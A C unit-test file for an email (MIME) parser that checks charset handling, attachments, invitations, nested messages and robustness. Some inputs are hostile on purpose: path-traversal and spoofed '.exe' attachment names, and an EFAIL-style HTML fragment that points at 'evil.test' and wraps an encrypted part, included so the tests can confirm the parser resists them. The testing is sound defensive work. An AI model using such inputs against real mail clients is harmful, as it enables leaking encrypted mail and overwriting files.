/* links: sealgate-pdf */
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <cmocka.h>

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include "pdfenc/mime.h"
#include "pdfenc/mime_read.h"

#define HEAD "From: a@example.org\nTo: b@example.org\nSubject: s\nMIME-Version: 1.0\n"

static struct document *parse(const char *message)
{
	struct document *document;
	struct fail f;

	assert_int_equal(mime_parse(message, strlen(message), NULL, &document, &f), SG_OK);
	return document;
}

static const struct document_body *body(const struct document *document, unsigned int i)
{
	assert_true(i < document->bodies->len);
	return g_ptr_array_index(document->bodies, i);
}

static const struct document_file *file(const struct document *document, unsigned int i)
{
	assert_true(i < document->files->len);
	return g_ptr_array_index(document->files, i);
}

static void of_alternatives_the_last_that_can_be_shown_is_chosen(void **state)
{
	struct document *d = parse(HEAD "Content-Type: multipart/alternative; boundary=X\n\n"
	    "--X\nContent-Type: text/plain\n\nplain\n--X\nContent-Type: text/html\n\n<p>rich</p>\n"
	    "--X\nContent-Type: text/calendar\n\nBEGIN:VCALENDAR\n--X--\n");

	(void)state;
	assert_int_equal(d->bodies->len, 1);
	assert_int_equal(body(d, 0)->kind, DOCUMENT_HTML);
	assert_int_equal(d->files->len, 1);
	assert_string_equal(file(d, 0)->type, "text/calendar");
	document_free(d);
}

static void html_without_a_word_gives_way_to_plain_text(void **state)
{
	struct document *d = parse(HEAD "Content-Type: multipart/alternative; boundary=X\n\n"
	    "--X\nContent-Type: text/plain\n\nplain\n--X\nContent-Type: text/html\n\n"
	    "<img src=x><style>p{}</style>\n--X--\n");

	(void)state;
	assert_int_equal(d->bodies->len, 1);
	assert_int_equal(body(d, 0)->kind, DOCUMENT_TEXT);
	document_free(d);
}

static void a_charset_that_lies_is_seen_through(void **state)
{
	struct document *d = parse(HEAD "Content-Type: text/plain; charset=us-ascii\n\n"
	    "gr\303\274n\n");
	struct document *e = parse(HEAD "Content-Type: text/plain; charset=utf-8\n\ngr\374n\n");
	struct document *g = parse(HEAD "Content-Type: text/plain; charset=no-such\n\ngr\374n\n");

	(void)state;
	assert_string_equal(body(d, 0)->text->str, "gr\303\274n\n");
	assert_string_equal(body(e, 0)->text->str, "gr\303\274n\n");
	assert_string_equal(body(g, 0)->text->str, "gr\303\274n\n");
	document_free(d);
	document_free(e);
	document_free(g);
}

static void names_of_files_are_safe_and_distinct(void **state)
{
	struct document *d = parse(HEAD "Content-Type: multipart/mixed; boundary=X\n\n"
	    "--X\nContent-Disposition: attachment; filename=\"../../etc/passwd\"\n\n1\n"
	    "--X\nContent-Disposition: attachment; filename=\"C:\\\\tmp\\\\PASSWD\"\n\n2\n"
	    "--X\nContent-Disposition: attachment; filename=original.eml\n\n3\n"
	    "--X\nContent-Disposition: attachment; "
	    "filename*=utf-8''%D0%9C%E2%80%AEfdp.exe\n\n4\n"
	    "--X\nContent-Type: image/png\n\n5\n--X--\n");

	(void)state;
	assert_string_equal(file(d, 0)->name, "passwd");
	assert_string_equal(file(d, 1)->name, "PASSWD (2)");
	assert_string_equal(file(d, 2)->name, "original (2).eml");
	assert_string_equal(file(d, 3)->name, "\320\234_fdp.exe");
	assert_string_equal(file(d, 4)->name, "part-5.png");
	document_free(d);
}

static void a_uuencoded_file_in_the_text_becomes_a_file(void **state)
{
	struct document *d = parse(HEAD "\nbefore\nbegin 644 cat.txt\n#0V%T\n`\nend\nafter\n");

	(void)state;
	assert_int_equal(d->files->len, 1);
	assert_string_equal(file(d, 0)->name, "cat.txt");
	assert_int_equal(file(d, 0)->data->len, 3);
	assert_memory_equal(file(d, 0)->data->data, "Cat", 3);
	assert_non_null(strstr(body(d, 0)->text->str, "before\n"));
	assert_non_null(strstr(body(d, 0)->text->str, "after"));
	document_free(d);
}

static void a_charset_is_sniffed_where_none_is_said(void **state)
{
	struct document *d = parse(HEAD "Content-Type: text/plain\n\n\033$B$3$s\033(B\n");
	struct document *e = parse(HEAD "Content-Type: text/html\n\n"
	    "<meta charset=windows-1251><p>\317\360\350\342\345\362</p>\n");
	struct document *g = parse(HEAD "Content-Type: text/plain; charset=iso-8859-1\n\n"
	    "\223quoted\224 \200\n");

	(void)state;
	assert_string_equal(body(d, 0)->text->str, "\343\201\223\343\202\223\n");
	assert_non_null(strstr(body(e, 0)->text->str, "\320\237\321\200\320\270"));
	assert_string_equal(body(g, 0)->text->str,
	    "\342\200\234quoted\342\200\235 \342\202\254\n");
	document_free(d);
	document_free(e);
	document_free(g);
}

#define INVITATION "BEGIN:VCALENDAR\nMETHOD:REQUEST\nBEGIN:VEVENT\nSUMMARY:Planning\n" \
	"END:VEVENT\nEND:VCALENDAR\n"

static void an_invitation_is_read_once_and_stays_usable(void **state)
{
	struct document *d = parse(HEAD "Content-Type: multipart/mixed; boundary=X\n\n"
	    "--X\nContent-Type: text/calendar\n\n" INVITATION
	    "--X\nContent-Type: text/calendar; name=invite.ics\n\n" INVITATION "--X--\n");

	(void)state;
	assert_int_equal(d->bodies->len, 1);
	assert_int_equal(body(d, 0)->kind, DOCUMENT_CARD);
	assert_string_equal(body(d, 0)->title, "Invitation");
	assert_int_equal(d->files->len, 2);
	assert_true(file(d, 0)->read);
	assert_string_equal(file(d, 0)->name, "invite.ics");
	document_free(d);
}

static void a_calendar_that_cannot_be_read_is_a_file(void **state)
{
	struct document *d = parse(HEAD "Content-Type: text/calendar\n\nBEGIN:VCALENDAR\n");

	(void)state;
	assert_int_equal(d->files->len, 1);
	assert_false(file(d, 0)->read);
	document_free(d);
}

static void signed_parts_are_shown_and_signatures_are_files(void **state)
{
	struct document *d = parse(HEAD "Content-Type: multipart/signed; boundary=X; "
	    "protocol=\"application/pgp-signature\"\n\n--X\nContent-Type: text/plain\n\nwords\n"
	    "--X\nContent-Type: application/pgp-signature; name=signature.asc\n\nabc\n--X--\n");

	(void)state;
	assert_int_equal(d->bodies->len, 1);
	assert_non_null(strstr(body(d, 0)->text->str, "words"));
	assert_string_equal(file(d, 0)->name, "signature.asc");
	document_free(d);
}

static void parts_of_other_messages_and_unknown_types_are_files(void **state)
{
	struct document *d = parse(HEAD "Content-Type: message/partial; id=\"a\"; number=1\n\n"
	    "words\n");
	struct document *e = parse(HEAD "Content-Type: x-new/thing\n\nwords\n");

	(void)state;
	assert_int_equal(d->files->len, 1);
	assert_int_equal(e->files->len, 1);
	document_free(d);
	document_free(e);
}

static void a_nested_message_is_shown_and_attached(void **state)
{
	struct document *d = parse(HEAD "Content-Type: message/rfc822\n\nSubject: inner\n"
	    "From: c@example.org\n\ninner text\n");

	(void)state;
	assert_int_equal(body(d, 0)->kind, DOCUMENT_NESTED);
	assert_string_equal(body(d, 0)->head->subject, "inner");
	assert_non_null(strstr(body(d, 1)->text->str, "inner text"));
	assert_string_equal(file(d, 0)->name, "inner.eml");
	document_free(d);
}

/*
 * What encrypted messages were stolen by: HTML around them that was shown as one piece with them.
 * Parts stay apart, and nothing encrypted is opened.
 */
static void parts_are_never_one_piece_with_their_neighbours(void **state)
{
	struct document *d = parse(HEAD "Content-Type: multipart/mixed; boundary=X\n\n"
	    "<p>preamble\n--X\nContent-Type: text/html\n\n<img src=\"http://evil.test/\n"
	    "--X\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data; name=s.p7m\n"
	    "Content-Transfer-Encoding: base64\n\nMIAGCSqGSIb3DQEHA6CAMIACAQA=\n"
	    "--X\nContent-Type: text/html\n\n<b>secret</b>\n"
	    "--X\nContent-Type: text/html\n\n\">\n--X--\nepilogue\n");

	(void)state;
	assert_int_equal(d->bodies->len, 3);
	for (unsigned int i = 0; i < 3; i++) {
		assert_int_equal(body(d, i)->kind, DOCUMENT_HTML);
		assert_true((strstr(body(d, i)->text->str, "secret") != NULL) == (i == 1));
		assert_true((strstr(body(d, i)->text->str, "evil") != NULL) == (i == 0));
		assert_null(strstr(body(d, i)->text->str, "preamble"));
		assert_null(strstr(body(d, i)->text->str, "epilogue"));
	}
	assert_int_equal(d->files->len, 1);
	assert_string_equal(file(d, 0)->name, "s.p7m");
	document_free(d);
}

static void a_message_without_text_says_so(void **state)
{
	struct document *d = parse(HEAD "\n");

	(void)state;
	assert_int_equal(d->bodies->len > 0, 1);
	assert_int_equal(body(d, d->bodies->len - 1)->kind, DOCUMENT_NOTE);
	document_free(d);
}

static void text_without_any_header_field_is_shown(void **state)
{
	struct document *d = parse("Only a sentence that stands here.\nAnd another.\n");

	(void)state;
	assert_non_null(strstr(body(d, 0)->text->str, "Only a sentence"));
	assert_non_null(strstr(body(d, 0)->text->str, "And another"));
	document_free(d);
}

static void the_subject_given_replaces_that_of_the_message(void **state)
{
	static const char message[] = HEAD "\nx\n";
	struct document *d;
	struct fail f;

	(void)state;
	assert_int_equal(mime_parse(message, sizeof(message) - 1, "=?utf-8?q?gr=C3=BCn?=", &d, &f),
	    SG_OK);
	assert_string_equal(d->head.subject, "gr\303\274n");
	document_free(d);
}

static void parts_nested_without_end_are_bounded(void **state)
{
	GString *message = g_string_new(HEAD);
	struct document *d;

	(void)state;
	for (unsigned int i = 0; i < 3000; i++)
		g_string_append_printf(message, "Content-Type: multipart/mixed; boundary=b%u\n\n"
		    "--b%u\n", i, i);
	g_string_append(message, "\nhello\n");
	d = parse(message->str);
	assert_true(d->bodies->len + d->files->len > 0);
	document_free(d);
	g_string_free(message, TRUE);
}

/* A random walk: messages made of pieces that parsers trip over never crash, never are empty. */
static void any_mixture_of_pieces_gives_a_body(void **state)
{
	static const char *const pieces[] = {
		"Content-Type: multipart/mixed; boundary=X\n", "Content-Type: message/rfc822\n",
		"Content-Type: text/html; charset=\"\"\n", "Content-Transfer-Encoding: base64\n",
		"Content-Transfer-Encoding: x-uuencode\n", "--X\n", "--X--\n", "\n", "\r\n", "\r",
		"begin 644 a\n", "end\n", "<p style=\"display:none\">", "</p>", "<a href='",
		"=?utf-8?",
		"\377\376", "\033$B", "> > ", "text ", "Subject: =?big5?b?", "From: <<>>, ;:@\n",
		"Content-Disposition: attachment; filename*0*=utf-8''%\n", "&#xffffffff;", "<!--",
	};
	uint32_t seed = 12345;

	(void)state;
	for (unsigned int n = 0; n < 3000; n++) {
		GString *message = g_string_new(n % 2 == 0 ? HEAD : "");
		struct document *d;

		for (unsigned int i = 0; i < 14; i++) {
			seed = seed * 1664525u + 1013904223u;
			g_string_append(message, pieces[(seed >> 16) % G_N_ELEMENTS(pieces)]);
		}
		d = parse(message->str);
		assert_true(d->bodies->len > 0);
		document_free(d);
		g_string_free(message, TRUE);
	}
}

static void base64_is_read_as_by_gmime(void **state)
{
	static const char *const texts[] = { "", "QUJD", "QUJDRA==\n", "QUJDREU=",
		"QU\r\nJD\nREVG\n", "  QUJ*D!RA = =", "QUJDRA==QUJD", "QUJDR", "=", "Q=UJD",
		"QUJD\nQUJD\n\n" };

	(void)state;
	for (size_t i = 0; i < G_N_ELEMENTS(texts); i++) {
		size_t size = strlen(texts[i]);
		GMimeStream *memory = g_mime_stream_mem_new_with_buffer(texts[i], size);
		GMimePart *part = g_mime_part_new();
		GMimeDataWrapper *content = g_mime_data_wrapper_new_with_stream(memory,
		    GMIME_CONTENT_ENCODING_BASE64);
		unsigned char expected[64];
		guint32 save = 0;
		int at = 0;
		size_t count = g_mime_encoding_base64_decode_step((const unsigned char *)texts[i],
		    size, expected, &at, &save);
		GByteArray *found;

		g_mime_part_set_content(part, content);
		found = mime_decoded(part);
		assert_int_equal(found->len, count);
		assert_memory_equal(found->data, expected, count);
		g_byte_array_unref(found);
		g_object_unref(content);
		g_object_unref(part);
		g_object_unref(memory);
	}
}

static int start(void **state)
{
	(void)state;
	mime_start();
	return 0;
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(of_alternatives_the_last_that_can_be_shown_is_chosen),
		cmocka_unit_test(html_without_a_word_gives_way_to_plain_text),
		cmocka_unit_test(base64_is_read_as_by_gmime),
		cmocka_unit_test(a_charset_that_lies_is_seen_through),
		cmocka_unit_test(a_charset_is_sniffed_where_none_is_said),
		cmocka_unit_test(an_invitation_is_read_once_and_stays_usable),
		cmocka_unit_test(a_calendar_that_cannot_be_read_is_a_file),
		cmocka_unit_test(signed_parts_are_shown_and_signatures_are_files),
		cmocka_unit_test(parts_of_other_messages_and_unknown_types_are_files),
		cmocka_unit_test(names_of_files_are_safe_and_distinct),
		cmocka_unit_test(a_uuencoded_file_in_the_text_becomes_a_file),
		cmocka_unit_test(a_nested_message_is_shown_and_attached),
		cmocka_unit_test(parts_are_never_one_piece_with_their_neighbours),
		cmocka_unit_test(a_message_without_text_says_so),
		cmocka_unit_test(text_without_any_header_field_is_shown),
		cmocka_unit_test(the_subject_given_replaces_that_of_the_message),
		cmocka_unit_test(parts_nested_without_end_are_bounded),
		cmocka_unit_test(any_mixture_of_pieces_gives_a_body),
	};

	return cmocka_run_group_tests(tests, start, NULL);
}
